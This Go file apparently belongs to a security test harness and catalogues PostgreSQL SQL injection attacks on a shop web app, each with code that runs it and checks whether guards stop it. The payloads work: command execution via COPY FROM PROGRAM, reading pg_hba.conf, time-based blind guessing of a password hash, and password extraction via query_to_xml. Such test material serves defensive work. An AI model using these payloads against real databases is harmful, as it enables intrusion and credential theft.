package attacks

import (
	"context"
	"net/http"
	"net/url"
	"time"
)

// injectionsPostgreSQL are what an injection does with functions that only
// PostgreSQL has. Files and programs need the rights of a superuser, which the
// shop's account has where nobody thought of another.
func injectionsPostgreSQL() []Case {
	guard := []string{"data/guard", "application/rules"}
	andPolicy := append([]string{"data/policy"}, guard...)
	return []Case{
		{ID: "sqli-program", Title: "Run a program on the database's machine", Class: sqlInjection, Stops: andPolicy, Superuser: true,
			Try: `curl {base}/reviews/helpful --data-urlencode "review=0; COPY reviews (product_id,user_id,author,stars,body,day) FROM PROGRAM 'echo 22,1,sh,5,\$((41+1)),today' (FORMAT csv)"  and look at {base}/products/22`,
			Run: runProgram},
		{ID: "sqli-file", Title: "Read a file of the database's machine", Class: sqlInjection, Stops: andPolicy, Superuser: true,
			Try: "{base}/search?q=zz&category=' UNION SELECT 0,'teapot',pg_read_file('pg_hba.conf'),'','',0,0,'','' --", Run: readFile},
		{ID: "sqli-sleep", Title: "Guess a password hash by how long an answer takes", Class: sqlInjection, Stops: andPolicy,
			Try: "{base}/api/products/7 AND (SELECT count(pg_sleep(3)) FROM users WHERE id=1 AND password < '8') >= 0", Run: blindByTime},
		{ID: "sqli-xml", Title: "Hide a statement inside a string", Class: sqlInjection, Stops: guard,
			Try: "{base}/products/0 UNION SELECT 1,'teapot',query_to_xml('SELECT password FROM users WHERE id=1',true,true,'')::text,'','',0,0,'',''", Run: queryToXML},
	}
}

// runProgram has the database's machine work out a sum, leave it in a file of
// the cluster's own folder, and show it as a review.
func runProgram(ctx context.Context, t *Target) (Result, error) {
	word := marker()
	program := `echo "22,1,sh,5,` + word + ` $((41+1)),2026-01-01" | tee ` + word + `.txt`
	statement := "0; COPY reviews (product_id,user_id,author,stars,body,day) FROM PROGRAM '" + program + "' (FORMAT csv)"
	v := newVisitor(t)
	if _, err := v.post(ctx, "/reviews/helpful", "product", "22", "review", statement); err != nil {
		return Result{}, err
	}
	r, err := v.get(ctx, "/products/22")
	if err != nil {
		return Result{}, err
	}
	return judged(r, r.has(word+" 42"), "a shell on the database's machine wrote a review", "no program was run")
}

func readFile(ctx context.Context, t *Target) (Result, error) {
	r, err := newVisitor(t).get(ctx, "/search?"+query("q", "zz", "category", "' UNION SELECT 0,'teapot',pg_read_file('pg_hba.conf'),'','',0,0,'','' --"))
	if err != nil {
		return Result{}, err
	}
	return judged(r, r.has("Client Authentication Configuration File"), "the file that says who may log in was in the answer", "no file was in the answer")
}

func queryToXML(ctx context.Context, t *Target) (Result, error) {
	number := "0 UNION SELECT 1,'teapot',query_to_xml('SELECT password FROM users WHERE id=1',true,true,'')::text,'','',0,0,'',''"
	r, err := newVisitor(t).get(ctx, "/products/"+url.PathEscape(number))
	if err != nil {
		return Result{}, err
	}
	return disclosed(r)
}

// blindByTime learns the hash's first letter from answers that are all alike,
// half a second late where the guess is right. A late answer is asked for
// again: the machine may have been busy.
func blindByTime(ctx context.Context, t *Target) (Result, error) {
	const pause = 500 * time.Millisecond
	v := newProgram(t)
	return guess(1, func(condition string) (*reply, bool, error) {
		path := "/api/products/" + url.PathEscape("7 AND (SELECT count(pg_sleep(0.5)) FROM products WHERE id=7 AND "+condition+") >= 0")
		for range 2 {
			began := time.Now()
			r, err := v.get(ctx, path)
			if err != nil || r.status != http.StatusOK || time.Since(began) < pause {
				return r, false, err
			}
		}
		r, err := v.get(ctx, "/api/products/7")
		return r, err == nil, err
	})
}
